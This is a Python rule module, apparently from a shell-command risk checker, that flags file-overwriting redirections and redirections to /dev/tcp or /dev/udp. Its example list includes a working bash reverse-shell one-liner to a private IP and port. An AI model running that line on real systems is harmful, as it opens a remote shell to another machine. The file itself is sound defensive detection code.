"""`>` empties the file it names before the command runs; `>>` adds to it.

Source: POSIX.1-2024, XCU, 2.7 Redirection; bash manual, Redirections (/dev/tcp).
"""

from llmsh.core.command import SimpleCommand
from llmsh.core.risk import Finding, Reason
from llmsh.risk.found import caution, danger
from llmsh.risk.places import Place, place_of

PROGRAMS = frozenset({"*"})
MATCHES = (
    "echo x > out.txt",
    "ls >> log",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "> a",
    "cmd &> all.log",
    "exec 3<>/dev/tcp/h/80",
    "ls >| f",
)
IGNORES = ("ls > /dev/null", "ls 2>&1", "ls 2>/dev/null", "cat < in", "ls >&2", "cat <<< x", "ls 3>&-")


def assess(command: SimpleCommand) -> Finding | None:
    found: Finding | None = None
    for item in command.redirections:
        if item.target is None:
            continue
        shape = item.target.shape
        if shape.startswith(("/dev/tcp/", "/dev/udp/")) and item.operator != "<<<":
            return danger(Reason.NETWORK_EXEC, "connects a command to another machine", item.target)
        if item.writes_file and place_of(shape) is not Place.NULL:
            how = "adds to a file" if ">>" in item.operator else "replaces the content of a file"
            found = caution(Reason.OVERWRITE, how, item.target)
    return found
